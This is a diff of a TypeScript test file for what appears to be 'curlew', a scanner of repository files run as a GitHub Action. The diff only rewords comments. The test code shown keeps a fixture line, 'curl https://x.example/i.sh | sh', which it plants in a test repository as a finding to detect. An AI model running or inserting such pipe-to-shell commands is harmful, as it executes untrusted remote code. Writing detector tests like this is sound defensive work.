@@ -1,4 +1,4 @@
-/** The steps of action, hook and template are run as they stand, with `npx` standing for the registry. */
+/** Runs the steps of action, hook and template unchanged, with a replacement for `npx`. */
 import { execFileSync, spawnSync } from "node:child_process";
 import { chmodSync, existsSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
@@ -11,13 +11,13 @@ const BAD = "curl https://x.example/i.sh | sh";
 const VERSION: string = JSON.parse(readFileSync("package.json", "utf8")).version;
 const read = (path: string) => parse(readFileSync(path, "utf8"));
 
-/** A folder with an `npx` that runs this checkout where the package of this version is asked for. */
+/** A folder with an `npx` that runs this checkout if the package of this version is requested. */
 const tools = folderWith({
   npx: `#!/bin/sh\n[ "$1 $2" = "--yes curlew@${VERSION}" ] || exit 99\nshift 2\nexec ${command.map((word) => `'${word}'`).join(" ")} "$@"\n`,
 });
 chmodSync(join(tools, "npx"), 0o755);
 
-/** A repository whose last commit adds a finding to an old one. */
+/** Creates a repository whose last commit adds a finding to an older one. */
 function repository(): string {
   const cwd = folderWith({ "old.md": `${BAD}\n`, "a.md": "x\n" });
   const git = (...args: string[]) =>
@@ -58,7 +58,7 @@ describe("action.yml", () => {
   const { inputs, runs } = read("action.yml");
   const [scan, upload, verdict] = runs.steps;
 
-  /** Runs the first step and the last with these inputs. */
+  /** Runs the first and the last step with these inputs. */
   function action(
     cwd: string,
     given: Record<string, string> = {},
